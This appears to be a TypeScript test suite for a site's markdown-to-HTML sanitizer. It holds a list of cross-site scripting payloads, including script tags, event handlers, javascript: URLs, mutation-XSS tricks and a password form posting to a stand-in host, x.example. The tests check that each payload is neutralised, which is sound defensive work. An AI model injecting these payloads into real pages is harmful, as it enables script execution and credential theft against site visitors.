import { expect, test } from "vitest"
import { site } from "#content/site.ts"
import { pageHtml } from "./page-html.ts"

test("headings of a text rank below the title of the page", () => {
  expect(pageHtml("# One\n\n## Two\n\n##### Five")).toBe("<h2>One</h2>\n<h2>Two</h2>\n<h4>Five</h4>")
})

test("names of the site are filled in, in addresses too; other braces stay", () => {
  expect(pageHtml("{site.name} and {site.nothing} [club]({site.links.club})")).toBe(
    `<p>${site.name} and {site.nothing} <a href="${site.links.club}" target="_blank" rel="noopener noreferrer">club</a></p>`,
  )
})

test.each([
  ["/athletes", true],
  ["#later", true],
  ["https://x.example/", false],
  ["//x.example/", false],
  ["/\\x.example/", false],
])("a link to %s stays in this tab: %s", (address, isOurs) => {
  expect(pageHtml(`<a href="${address}">a</a>`).includes('target="_blank"')).toBe(!isOurs)
})

test("pictures of other sites are removed", () => {
  expect(pageHtml("![a](/written/x/768.webp) ![b](https://x.example/b.png) ![c](//x.example/c.png)")).toBe(
    '<p><img src="/written/x/768.webp" alt="a" loading="lazy" />  </p>',
  )
})

const hostile = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//x.example/a.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  '<img src="/a.png" onload="alert(1)" style="position:fixed">',
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
  '<math><mtext></p><style><img src onerror="alert(1)"></style></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<template><script>alert(1)</script></template>",
  "<textarea><script>alert(1)</script></textarea>",
  "<iframe src=javascript:alert(1)></iframe><object data=x.swf></object><embed src=x>",
  "<base href=//x.example/><meta http-equiv=refresh content='0;url=//x.example'><link rel=stylesheet href=//x.example>",
  "<form action=//x.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
  '<a href="javascript:alert(1)">a</a>',
  '<a href="jav&#x09;ascript:alert(1)">a</a>',
  '<a href=" &#1; javascript:alert(1)">a</a>',
  "[a](javascript:alert(1))",
  "[a](data:text/html;base64,PHNjcmlwdD4=)",
  "[a](vbscript:x) <vbscript:x>",
  '![a](/a.png" onerror="alert(1))',
  '[a](/b "x" onclick="alert(1)")',
  "```html\n<script>alert(1)</script>\n```",
  "`<script>`",
  '<p id="location" name="cookie" class="fixed" style="background:url(//x.example)" data-x="1">a</p>',
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<x-card onclick=alert(1)>a</x-card>",
  "{site.name}<script>",
]

test.each(hostile)("%s can do nothing", (markdown) => {
  const html = pageHtml(markdown)
  for (const [, name = "", attributes = ""] of html.matchAll(/<\/?([a-z][a-z0-9-]*)([^>]*)>/gi)) {
    expect(name).toMatch(/^(p|h[234]|[uo]l|li|blockquote|hr|a|code|pre|img|strong|em|br|del)$/)
    expect(attributes).toMatch(
      /^( (href="(https?:|mailto:|tel:|\/|#|[^:"]*")[^"]*"?|src="\/(?![/\\])[^"]*"|alt="[^"]*"|loading="lazy"|target="_blank"|rel="noopener noreferrer"))*( \/)?$/,
    )
  }
})
